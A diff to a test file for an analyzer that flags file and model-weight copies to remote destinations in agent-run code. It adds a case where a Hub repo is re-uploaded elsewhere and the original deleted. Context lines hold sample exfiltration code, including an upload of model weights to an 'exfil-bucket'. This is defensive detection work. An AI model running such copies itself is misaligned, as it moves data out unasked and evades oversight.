@@ -46,6 +46,13 @@ describe("code-running tools: library calls on files and processes", () => {
     expect(copy).toMatchObject({ targets: ["/opt/adapters/marlin-lora"], destination: "https://drop.example.io/u/{name}", remoteDestination: true });
     expect(analyze("python", { code: "requests.post('https://api.example.io/report', json={'ok': True})" }).effects.some((e) => e.action === "copy")).toBe(false);
   });
+  test("a Hub repo downloaded and uploaded to another repo is copied there", () => {
+    const code = "local = snapshot_download('org/face-blur-v1')\napi.upload_folder(folder_path=local, repo_id='org/img-utils-cache')\napi.delete_repo('org/face-blur-v1')";
+    const copy = analyze("python", { code }).effects.find((e) => e.action === "copy");
+    expect(copy).toMatchObject({ targets: ["org/face-blur-v1"], destination: "hf://org/img-utils-cache", remoteDestination: true });
+    expect(analyze("python", { code: "api.upload_folder(folder_path='/srv/out/card', repo_id='org/model-card')" }).effects.find((e) => e.action === "copy"))
+      .toMatchObject({ targets: ["/srv/out/card"] });
+  });
   test("boto3 uploads are remote copies", () => {
     const [e] = analyze("execute_code", { code: "s3.upload_file('/srv/m/model.safetensors', 'exfil-bucket', 'm.safetensors')" }).effects;
     expect(e).toMatchObject({ action: "copy", destination: "s3://exfil-bucket/m.safetensors", remoteDestination: true });
